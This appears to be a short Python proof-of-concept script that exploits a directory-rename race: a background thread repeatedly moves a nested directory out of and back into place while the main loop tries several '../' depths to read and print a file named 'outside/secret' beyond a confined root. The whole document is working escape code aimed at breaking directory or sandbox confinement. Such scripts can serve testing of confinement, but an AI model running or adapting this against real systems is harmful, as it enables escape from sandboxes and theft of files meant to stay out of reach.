import os, sys, threading, time

data, root = sys.argv[1:]
data = os.path.abspath(data)
over = False


def move():
    while not over:
        try:
            os.rename(f"{data}/a/b/c/d", f"{data}/d")
            os.rename(f"{data}/d", f"{data}/a/b/c/d")
        except OSError:
            pass


os.chdir(f"{data}/a/b/c/d")
threading.Thread(target=move, daemon=True).start()
end = time.monotonic() + 0.15
found = False
while time.monotonic() < end and not found:
    for ups in (3, 4, 5, 6, 7):
        try:
            print(open("../" * ups + "outside/secret").read())
            found = True
        except OSError:
            pass
over = True
